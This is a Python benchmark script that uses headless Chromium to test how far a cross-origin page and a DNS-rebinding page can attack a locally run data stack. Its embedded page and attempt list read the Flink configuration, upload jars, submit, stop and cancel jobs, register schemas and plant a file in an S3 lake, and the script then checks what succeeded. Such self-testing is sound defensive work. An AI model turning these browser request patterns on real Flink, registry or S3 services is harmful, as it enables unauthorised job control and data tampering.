"""`make bench-pages`: what a web page in a browser of this machine can do to a running stack.

Chromium opens two pages. One is of another origin. The other is of a name that pointed to an attacker's server when the
page was loaded and points to the stack now (DNS rebinding): for the browser page and stack are one origin. Each page
tries to read and to change what Flink, the registry, the exporters and the S3 server hold; afterwards the servers are
asked what became of it. Needs `chromium` on the PATH.
"""

from __future__ import annotations

import json
import os
import queue
import shutil
import socket
import socketserver
import subprocess
import sys
import tempfile
import threading
import urllib.error
import urllib.request
from contextlib import ExitStack, suppress
from pathlib import Path
from typing import Any

from rich.console import Console
from rich.table import Table

from shardlake.flink.cluster import Cluster
from shardlake.testing.stack import RunningStack, running_stack

ROOT = Path(__file__).parents[1]
OTHER, REBOUND, REBOUND_ADDRESS = "other.example", "rebound.example", "127.0.0.2"
ANSWER_SECONDS = 180
Attempt = dict[str, Any]
SCHEMA = json.dumps({"schema": '"string"'})
BROWSER = [
    *(
        "chromium",
        "--headless=new",
        "--no-sandbox",
        "--disable-gpu",
        "--no-first-run",
        "--disable-background-networking",
    ),
    "--disable-features=HttpsUpgrades,HttpsFirstBalancedModeAutoEnable",
    f"--host-resolver-rules=MAP {REBOUND} {REBOUND_ADDRESS}, MAP *.example 127.0.0.1",
]
PAGE = """<!doctype html><script>
const attempts = ATTEMPTS;
function form() { const f = new FormData(); f.append("file", new Blob(["x".repeat(5000)]), "a.jar"); return f }
async function one(a) {
  if (a.how == "image") return new Promise(done => { const i = new Image();
      i.onload = i.onerror = () => done("sent"); i.src = a.url });
  try {
    const body = a.how == "form" ? form() : a.body;
    const signal = AbortSignal.timeout(20000);
    const answer = await fetch(a.url, {method: a.method, mode: a.mode, headers: a.headers, body, signal});
    return answer.type == "opaque" ? "sent, not read" : answer.status + " " + (await answer.text()).slice(0, 70);
  } catch (e) { return e.name == "TimeoutError" ? "no answer" : "not sent, or not read" }
}
(async () => { const found = [];
  for (const a of attempts) found.push(await one(a));
  fetch("RESULTS", {method: "POST", mode: "no-cors", body: JSON.stringify(found)}) })();
</script>"""


def attempts(base: dict[str, str], job: str) -> list[Attempt]:
    """What a page tries, at the addresses `base`; `job` is one of Flink's that runs."""
    flink, registry, s3 = base["flink"], base["registry"] + "/apis/ccompat/v7", base["filer"]

    def tried(
        what: str, url: str, method: str = "GET", how: str = "", mode: str = "cors", **more: Any
    ) -> dict[str, Any]:
        return {"what": what, "url": url, "method": method, "how": how, "mode": mode, **more}

    return [
        tried("Flink: read the jobs", f"{flink}/jobs/overview"),
        tried("Flink: read the configuration", f"{flink}/jobmanager/config"),
        tried("Flink: upload a jar", f"{flink}/jars/upload", "POST", "form"),
        tried("Flink: submit a job, read the answer", f"{flink}/jobs", "POST", "form"),
        tried("Flink: submit a job", f"{flink}/jobs", "POST", "form", "no-cors"),
        tried("Flink: stop the jobs", f"{flink}/jobs/{job}/stop", "POST", mode="no-cors", body="{}"),
        tried("Flink: cancel the jobs by an image", f"{flink}/jobs/{job}/yarn-cancel", how="image"),
        tried("Flink's exporter: read", base["reporter"] + "/metrics"),
        tried("lag exporter: read", base["lag"] + "/metrics"),
        tried("registry: read the subjects", f"{registry}/subjects"),
        tried("registry: register as text", f"{registry}/subjects/a/versions", "POST", mode="no-cors", body=SCHEMA),
        tried("registry: register as JSON", f"{registry}/subjects/b/versions", "POST", body=SCHEMA,
              headers={"Content-Type": "application/vnd.schemaregistry.v1+json"}),
        tried("S3: list", base["s3"] + "/shardlake"),
        tried("S3's filer: read the lake", f"{s3}/buckets/shardlake/"),
        tried("S3's filer: write into the lake", f"{s3}/buckets/shardlake/lake/planted/", "POST", "form", "no-cors"),
    ]  # fmt: skip


class Pages:
    """Serves one page under any name, takes what the page found, and stands before a port as a rebound name does."""

    def __init__(self) -> None:
        self.text = ""
        self.found: queue.Queue[list[str]] = queue.Queue()

    def serve(self, address: tuple[str, int], behind: tuple[str, int] | None = None) -> socketserver.TCPServer:
        """Listen; but for the page and its results, what comes goes to `behind`."""
        pages = self

        class Handler(socketserver.BaseRequestHandler):
            def handle(self) -> None:
                head = self.request.recv(65_536)
                if head.startswith(b"POST /found "):
                    headers, _, body = head.partition(b"\r\n\r\n")
                    length = int(headers.lower().split(b"content-length: ")[1].split(b"\r\n")[0])
                    while len(body) < length:
                        body += self.request.recv(65_536)
                    pages.found.put(json.loads(body))
                if behind is None or head.startswith(b"GET /page "):
                    body = pages.text.encode()
                    self.request.sendall(
                        b"HTTP/1.1 200 OK\r\nContent-Type: text/html\r\nConnection: close\r\nContent-Length: %d\r\n\r\n"
                        % len(body)
                        + body
                    )
                elif head:
                    with socket.create_connection(behind) as server:
                        server.sendall(head)
                        threading.Thread(target=_copy, args=(server, self.request), daemon=True).start()
                        _copy(self.request, server)

        server = socketserver.ThreadingTCPServer(address, Handler)
        server.daemon_threads = True
        threading.Thread(target=server.serve_forever, daemon=True).start()
        return server

    def open(self, url: str, tried: list[Attempt], results: str) -> list[str]:
        """Return the browser's answer to each of `tried`, by a page at `url`."""
        self.text = PAGE.replace("ATTEMPTS", json.dumps(tried)).replace("RESULTS", results)
        with tempfile.TemporaryDirectory(ignore_cleanup_errors=True) as profile:
            browser = subprocess.Popen(
                [*BROWSER, f"--user-data-dir={profile}", url], stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL
            )
            try:
                return self.found.get(timeout=ANSWER_SECONDS)
            finally:
                browser.kill()
                browser.wait()


def _copy(source: socket.socket, target: socket.socket) -> None:
    """Pass on what comes until one of the two ends; then the other does."""
    with suppress(OSError):
        while piece := source.recv(65_536):
            target.sendall(piece)
    with suppress(OSError):
        target.shutdown(socket.SHUT_RDWR)


def outcome(stack: RunningStack, job: str, ports: dict[str, int]) -> dict[str, object]:
    """Read from the servers what a page has left there."""
    state = Cluster(stack.settings.flink_rest_url).state(job)
    with urllib.request.urlopen(f"{stack.settings.schema_registry_url}/subjects") as answer:
        subjects = sorted(json.load(answer))
    try:
        with urllib.request.urlopen(
            f"http://127.0.0.1:{ports['filer']}/buckets/shardlake/lake/planted/a.jar"
        ) as answer:
            planted = answer.status == 200
    except urllib.error.HTTPError:
        planted = False
    return {"job": state, "subjects": subjects, "planted in the lake": planted}


def main() -> None:
    """Print what each page found, and what became of the servers."""
    if shutil.which("chromium") is None:
        sys.exit("error: There is no `chromium` on the PATH.\n  Install the browser: Debian's package is `chromium`.")
    table = Table("attempt", OTHER, REBOUND)
    after: dict[str, dict[str, object]] = {}
    with tempfile.TemporaryDirectory() as temporary, ExitStack() as stopped:
        stack = stopped.enter_context(running_stack(ROOT, Path(temporary) / "state", s3=True))
        started = stack.stack.ports
        ports = {
            "flink": started.flink_rest, "reporter": started.flink_jobmanager_metrics, "registry": started.registry,
            "s3": started.s3, "filer": started.s3_filer, "lag": started.kafka - 2 + 11,
        }  # fmt: skip
        lag = stack.start("lag", "--serve", "--port", str(ports["lag"]))
        stopped.callback(lag.wait)
        stopped.callback(lag.terminate)
        pages = Pages()
        own = pages.serve(("127.0.0.1", 0)).server_address[1]
        for port in ports.values():
            pages.serve((REBOUND_ADDRESS, port), ("127.0.0.1", port))
        columns: list[list[str]] = []
        for name in (OTHER, REBOUND):
            stack.shardlake("jobs", "run", "--unless-running", "archive")
            running = Cluster(stack.settings.flink_rest_url).running()
            assert running
            job = running.job_id
            host = "127.0.0.1" if name == OTHER else REBOUND
            tried = attempts({what: f"http://{host}:{port}" for what, port in ports.items()}, job)
            found = []
            if name == OTHER:
                found = pages.open(f"http://{OTHER}:{own}/page", tried, "/found")
            else:  # a name has one origin a port
                for port in dict.fromkeys(one["url"].split("/")[2] for one in tried):
                    there = [one for one in tried if f"//{port}/" in one["url"]]
                    found += pages.open(f"http://{port}/page", there, "/found")
            columns.append(found)
            after[name] = outcome(stack, job, ports)
        for one, *found in zip(tried, *columns, strict=True):
            table.add_row(one["what"], *found)
    console = Console(width=int(os.environ.get("COLUMNS", "170")), markup=False)
    console.print(table)
    for name, held in after.items():
        console.print(f"after {name}: {json.dumps(held)}", highlight=False)


if __name__ == "__main__":
    main()
